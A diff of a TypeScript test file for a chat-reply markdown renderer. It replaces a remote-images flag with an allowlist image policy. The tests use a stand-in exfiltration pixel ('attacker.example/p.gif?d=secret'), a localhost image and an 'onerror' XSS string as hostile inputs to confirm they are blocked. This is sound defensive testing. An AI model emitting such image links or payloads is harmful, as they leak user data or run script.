@@ -4,6 +4,8 @@ import { marked } from 'marked';
 import { fallbackBlock, renderFinal, renderProvisional } from './markdown';
 import { ALLOWED_ATTR, ALLOWED_TAGS, ATTRIBUTES_BY_TAG } from './markdown-policy';
 import { MARKDOWN_CASES } from './fixtures/markdown-corpus';
+import { anyHttpsImage } from './fixtures/image-policies';
+import { imagePolicy } from './image-origins';
 
 const REGISTERED = new Set(['bailing-chart', 'bailing-form']);
 const isRendererType = (type: string): boolean => REGISTERED.has(type);
@@ -21,7 +23,7 @@ const outline = (root: Element): string[] =>
 
 describe('markdown corpus (final reply)', () => {
   test.each(MARKDOWN_CASES)('$title', ({ input, expected }) => {
-    expect(html(renderFinal(input, { isRendererType: () => false }).fragment)).toBe(expected);
+    expect(html(renderFinal(input, { isRendererType: () => false, images: anyHttpsImage }).fragment)).toBe(expected);
   });
 });
 
@@ -147,14 +149,16 @@ describe('rich fences in the final reply', () => {
     expect(blocks[0]!.source).toBe('<img src=x onerror=alert(1)>');
   });
 
-  test('remoteImages defaults to true and can be turned off', () => {
-    const input = '![chart](https://img.example.com/c.png)';
-    expect(mount(renderFinal(input, { isRendererType }).fragment).querySelector('img')?.getAttribute('src')).toBe(
-      'https://img.example.com/c.png',
-    );
-    const off = mount(renderFinal(input, { isRendererType, remoteImages: false }).fragment);
-    expect(off.querySelector('img, [src]')).toBeNull();
-    expect(off.textContent!.trim()).toBe('[image: chart]');
+  test('images load only where the image policy allows: none by default', () => {
+    const input = '![chart](https://img.example.com/c.png) ![pixel](https://attacker.example/p.gif?d=secret) ![local](http://127.0.0.1:8787/uploads/a.png)';
+    const off = mount(renderFinal(input, { isRendererType }).fragment);
+    expect(off.querySelector('img, [src], a')).toBeNull();
+    expect(off.textContent!.trim()).toBe('[image: chart] [image: pixel] [image: local]');
+    // The detector: the same answer under the widest policy does have images.
+    expect(mount(renderFinal(input, { isRendererType, images: anyHttpsImage }).fragment).querySelectorAll('img')).toHaveLength(2);
+    const listed = mount(renderFinal(input, { isRendererType, images: imagePolicy(['https://img.example.com']) }).fragment);
+    expect([...listed.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual(['https://img.example.com/c.png']);
+    expect(listed.textContent).toContain('[image: pixel]');
   });
 });
 
@@ -198,7 +202,7 @@ describe('streaming (provisional) render', () => {
 
   test('opts are accepted and change nothing', () => {
     const input = '![a](https://img.example.com/a.png)\n\n```bailing-chart\n{}\n```';
-    expect(html(renderProvisional(input, { isRendererType, remoteImages: true }))).toBe(html(renderProvisional(input)));
+    expect(html(renderProvisional(input, { isRendererType, images: anyHttpsImage }))).toBe(html(renderProvisional(input)));
   });
 
   test('the same links and raw-HTML policy as the final reply', () => {
